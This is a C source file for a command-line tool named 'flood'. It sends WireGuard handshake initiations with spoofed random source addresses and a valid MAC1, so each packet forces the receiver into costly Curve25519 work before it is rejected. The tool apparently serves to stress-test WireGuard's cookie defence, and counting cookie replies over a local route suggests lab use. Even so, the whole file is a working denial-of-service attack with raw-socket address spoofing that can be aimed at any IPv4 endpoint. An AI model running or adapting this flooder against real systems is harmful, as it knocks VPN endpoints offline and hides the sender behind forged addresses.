// SPDX-License-Identifier: GPL-2.0
/*
 * flood: WireGuard handshake initiations that pass the receiver's first
 * check, as fast as the machine allows, from many source addresses.
 *
 *   flood -k PUBLIC_KEY -t IPV4:PORT -s PREFIX/LEN [-d SECONDS] [-r RATE]
 *
 * SIGINT or SIGTERM end it early, with the summary.
 *
 * Each initiation carries random bytes where the ephemeral key, the
 * encrypted static key and the timestamp go, and a correct MAC1 for the
 * target's public key: the receiver can only tell it is junk after a
 * Curve25519 operation, which is what makes it a flood worth defending
 * against.  Packets leave through a raw socket with a random source address
 * in PREFIX and a random source port.  Cookie replies that come back (give
 * the prefix a local route, "ip route add local PREFIX dev lo") are counted:
 * the receiver only answers initiations whose MAC1 was right.
 *
 * At the end: "sent N initiations in S s (R/s), M cookie replies".
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <sodium.h>

#include "blake2s.h"

#define KEY_LEN 32
#define MAC_LEN 16
#define INITIATION_LEN 148
#define COOKIE_REPLY_LEN 64
#define BATCH 32

enum { MESSAGE_INITIATION = 1, MESSAGE_COOKIE_REPLY = 3 };

struct packet {
	struct iphdr ip;
	struct udphdr udp;
	uint8_t message[INITIATION_LEN];
} __attribute__((packed));

static uint64_t rng_state;
static volatile sig_atomic_t stopping;

static void stop(int sig)
{
	(void)sig;
	stopping = 1;
}

/* splitmix64: fast, and random enough for keys nobody will ever check. */
static uint64_t rng_next(void)
{
	uint64_t z = (rng_state += 0x9e3779b97f4a7c15ULL);

	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
	return z ^ (z >> 31);
}

static void rng_fill(uint8_t *buf, size_t len)
{
	uint64_t r;

	while (len >= sizeof(r)) {
		r = rng_next();
		memcpy(buf, &r, sizeof(r));
		buf += sizeof(r);
		len -= sizeof(r);
	}
	if (len) {
		r = rng_next();
		memcpy(buf, &r, len);
	}
}

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void usage(void)
{
	fprintf(stderr, "usage: flood -k PUBLIC_KEY -t IPV4:PORT -s PREFIX/LEN "
		"[-d SECONDS] [-r PACKETS_PER_SECOND]\n");
	exit(2);
}

static int parse_target(const char *arg, struct sockaddr_in *sin)
{
	char host[INET_ADDRSTRLEN];
	const char *colon = strrchr(arg, ':');
	char *end;
	long port;

	if (!colon || (size_t)(colon - arg) >= sizeof(host))
		return -1;
	memcpy(host, arg, colon - arg);
	host[colon - arg] = '\0';
	port = strtol(colon + 1, &end, 10);
	if (*end || port < 1 || port > 65535)
		return -1;
	memset(sin, 0, sizeof(*sin));
	sin->sin_family = AF_INET;
	sin->sin_port = htons(port);
	return inet_pton(AF_INET, host, &sin->sin_addr) == 1 ? 0 : -1;
}

static int parse_prefix(const char *arg, uint32_t *base, uint32_t *mask)
{
	char host[INET_ADDRSTRLEN];
	const char *slash = strchr(arg, '/');
	struct in_addr addr;
	char *end;
	long len;

	if (!slash || (size_t)(slash - arg) >= sizeof(host))
		return -1;
	memcpy(host, arg, slash - arg);
	host[slash - arg] = '\0';
	len = strtol(slash + 1, &end, 10);
	if (*end || len < 8 || len > 32 || inet_pton(AF_INET, host, &addr) != 1)
		return -1;
	*mask = len == 32 ? 0 : UINT32_MAX >> len;
	*base = ntohl(addr.s_addr) & ~*mask;
	return 0;
}

/* Count the cookie replies waiting on @fd, a raw UDP socket. */
static unsigned long drain_replies(int fd, uint16_t target_port)
{
	uint8_t buf[2048];
	unsigned long n = 0;
	ssize_t len;

	while ((len = recv(fd, buf, sizeof(buf), MSG_DONTWAIT)) > 0) {
		const struct iphdr *ip = (const void *)buf;
		size_t off = ip->ihl * 4;
		const struct udphdr *udp = (const void *)(buf + off);

		if ((size_t)len < off + sizeof(*udp) + COOKIE_REPLY_LEN ||
		    udp->source != target_port)
			continue;
		if (ntohs(udp->len) == sizeof(*udp) + COOKIE_REPLY_LEN &&
		    buf[off + sizeof(*udp)] == MESSAGE_COOKIE_REPLY)
			n++;
	}
	return n;
}

int main(int argc, char *argv[])
{
	const char *key_arg = NULL, *target_arg = NULL, *prefix_arg = NULL;
	uint8_t public_key[KEY_LEN], mac1_key[KEY_LEN];
	static struct packet packets[BATCH];
	struct mmsghdr msgs[BATCH];
	struct iovec iovs[BATCH];
	unsigned long sent = 0, replies = 0;
	double seconds = 10, rate = 0, start, elapsed;
	struct sockaddr_in target;
	uint32_t base, mask;
	struct blake2s_state state;
	size_t key_len;
	int fd, rfd, opt, one = 1, i;

	while ((opt = getopt(argc, argv, "k:t:s:d:r:")) != -1) {
		switch (opt) {
		case 'k': key_arg = optarg; break;
		case 't': target_arg = optarg; break;
		case 's': prefix_arg = optarg; break;
		case 'd': seconds = atof(optarg); break;
		case 'r': rate = atof(optarg); break;
		default: usage();
		}
	}
	if (!key_arg || !target_arg || !prefix_arg || optind != argc || seconds <= 0)
		usage();
	if (sodium_init() < 0 || blake2s_selftest()) {
		fprintf(stderr, "flood: BLAKE2s or libsodium failed its self-test\n");
		return 1;
	}
	if (sodium_base642bin(public_key, sizeof(public_key), key_arg,
			      strlen(key_arg), NULL, &key_len, NULL,
			      sodium_base64_VARIANT_ORIGINAL) || key_len != KEY_LEN) {
		fprintf(stderr, "flood: '%s' is not a base64 public key\n", key_arg);
		return 1;
	}
	if (parse_target(target_arg, &target)) {
		fprintf(stderr, "flood: '%s' is not IPV4:PORT\n", target_arg);
		return 1;
	}
	if (parse_prefix(prefix_arg, &base, &mask)) {
		fprintf(stderr, "flood: '%s' is not an IPv4 PREFIX/LEN (8 to 32)\n",
			prefix_arg);
		return 1;
	}

	/* MAC1's key: HASH("mac1----" || the receiver's public key). */
	blake2s_init(&state, KEY_LEN, NULL, 0);
	blake2s_update(&state, "mac1----", 8);
	blake2s_update(&state, public_key, KEY_LEN);
	blake2s_final(&state, mac1_key);

	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	rfd = socket(AF_INET, SOCK_RAW, IPPROTO_UDP);
	if (fd < 0 || rfd < 0 ||
	    setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one))) {
		fprintf(stderr, "flood: raw socket: %s\n", strerror(errno));
		return 1;
	}
	randombytes_buf(&rng_state, sizeof(rng_state));

	for (i = 0; i < BATCH; i++) {
		struct packet *p = &packets[i];

		p->ip.version = 4;
		p->ip.ihl = 5;
		p->ip.ttl = 64;
		p->ip.protocol = IPPROTO_UDP;
		p->ip.tot_len = htons(sizeof(*p));
		p->ip.daddr = target.sin_addr.s_addr;
		p->udp.dest = target.sin_port;
		p->udp.len = htons(sizeof(p->udp) + INITIATION_LEN);
		p->message[0] = MESSAGE_INITIATION;
		iovs[i].iov_base = p;
		iovs[i].iov_len = sizeof(*p);
		memset(&msgs[i], 0, sizeof(msgs[i]));
		msgs[i].msg_hdr.msg_name = &target;
		msgs[i].msg_hdr.msg_namelen = sizeof(target);
		msgs[i].msg_hdr.msg_iov = &iovs[i];
		msgs[i].msg_hdr.msg_iovlen = 1;
	}

	signal(SIGINT, stop);
	signal(SIGTERM, stop);
	start = now_s();
	while (!stopping && (elapsed = now_s() - start) < seconds) {
		int n;

		if (rate > 0 && sent > rate * elapsed) {
			usleep(1000);
			replies += drain_replies(rfd, target.sin_port);
			continue;
		}
		for (i = 0; i < BATCH; i++) {
			struct packet *p = &packets[i];
			uint64_t r = rng_next();

			p->ip.saddr = htonl(base | ((uint32_t)r & mask));
			p->udp.source = htons(1024 + (r >> 32) % 64512);
			/* Sender index, ephemeral, static, timestamp: noise. */
			rng_fill(p->message + 4, INITIATION_LEN - 4 - 2 * MAC_LEN);
			blake2s(p->message + INITIATION_LEN - 2 * MAC_LEN, MAC_LEN,
				p->message, INITIATION_LEN - 2 * MAC_LEN,
				mac1_key, KEY_LEN);
		}
		n = sendmmsg(fd, msgs, BATCH, 0);
		if (n < 0 && errno != ENOBUFS && errno != EINTR) {
			fprintf(stderr, "flood: send: %s\n", strerror(errno));
			return 1;
		}
		if (n > 0)
			sent += n;
		replies += drain_replies(rfd, target.sin_port);
	}
	elapsed = now_s() - start;
	/* Replies still on their way. */
	usleep(200000);
	replies += drain_replies(rfd, target.sin_port);
	printf("sent %lu initiations in %.1f s (%.0f/s), %lu cookie replies\n",
	       sent, elapsed, sent / elapsed, replies);
	return 0;
}
